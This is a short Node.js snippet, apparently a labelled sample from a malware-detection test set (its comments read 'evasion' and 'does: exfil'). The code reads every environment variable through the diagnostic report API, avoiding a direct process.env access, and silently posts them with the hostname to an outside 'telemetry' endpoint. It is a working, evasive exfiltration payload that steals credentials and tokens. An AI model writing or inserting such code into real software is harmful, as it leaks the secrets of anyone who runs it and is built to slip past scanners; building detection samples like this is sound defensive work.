// evasion: environment taken from the diagnostic report (process.report.getReport().environmentVariables) and posted
// grade: hard; does: exfil
const https = require('https');

const report = process.report.getReport();
const body = JSON.stringify({
  host: report.header.host,
  node: report.header.nodejsVersion,
  vars: report.environmentVariables,
});

const req = https.request('https://collect.example-telemetry.io/r', {
  method: 'POST',
  headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
});
req.on('error', () => {});
req.end(body);
